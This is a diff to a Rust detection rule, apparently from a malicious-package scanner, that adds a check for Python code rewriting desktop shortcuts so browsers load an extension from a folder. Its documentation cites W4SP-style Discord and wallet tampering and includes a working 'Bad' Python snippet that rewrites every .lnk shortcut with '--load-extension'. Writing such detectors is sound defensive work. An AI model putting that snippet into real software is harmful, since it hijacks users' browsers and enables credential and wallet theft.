@@ -1,6 +1,6 @@
 //! ## What it detects
 //!
-//! Code that nobody called, which writes into the program of a messenger or a wallet: Discord's `discord_desktop_core`, an `app.asar` of Exodus, Atomic or Ledger.
+//! Code that nobody called, which writes into the program of a messenger or a wallet: Discord's `discord_desktop_core`, an `app.asar` of Exodus, Atomic or Ledger; shortcuts that are rewritten to start a browser with an extension from a folder.
 //!
 //! ## Why it is bad
 //!
@@ -8,7 +8,7 @@
 //!
 //! ## A real incident
 //!
-//! W4SP and its many copies put a script into Discord that sends each new password and card; packages of 2025 replaced parts of Atomic Wallet and Exodus.
+//! W4SP and its many copies put a script into Discord that sends each new password and card; packages of 2025 replaced parts of Atomic Wallet and Exodus. 451 names of February 2023 rewrote the shortcuts of browsers.
 //!
 //! ## Innocent lookalikes
 //!
@@ -22,6 +22,17 @@
 //! open(core, 'w').write('fetch()')
 //! ```
 //!
+//! ## Bad
+//!
+//! ```python pkg/__init__.py
+//! import glob
+//! from win32com.client import Dispatch
+//! for path in glob.glob('Desktop/*.lnk'):
+//!     link = Dispatch('WScript.Shell').CreateShortcut(path)
+//!     link.Arguments = '--load-extension=C:/Users/a/Extension'
+//!     link.Save()
+//! ```
+//!
 //! ## Good
 //!
 //! ```python pkg/__init__.py
@@ -30,7 +41,7 @@
 //! open(core, 'w').write('fetch()')
 //! ```
 
-use fondaco_python::Api;
+use fondaco_python::{Api, Unit};
 use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};
 
 use crate::{Hits, Package, Rule};
@@ -54,6 +65,15 @@ fn check(package: &Package<'_>, hits: &mut Hits) {
             hits.call(unit, call, "writes into a program of the user");
         }
     }
+    for unit in package.units().filter(|unit| loads_extension(unit)) {
+        hits.line(unit, 1, "has browsers started with an extension of its own");
+    }
+}
+
+/// Whether code that rewrites shortcuts has them start a browser with an extension from a folder.
+fn loads_extension(unit: &Unit) -> bool {
+    let has = |mark: &str| unit.text.contains(mark);
+    has("--load-extension") && (has("CreateShortCut") || has("CreateShortcut")) && has(".lnk")
 }
 
 fn is_program(path: &str) -> bool {
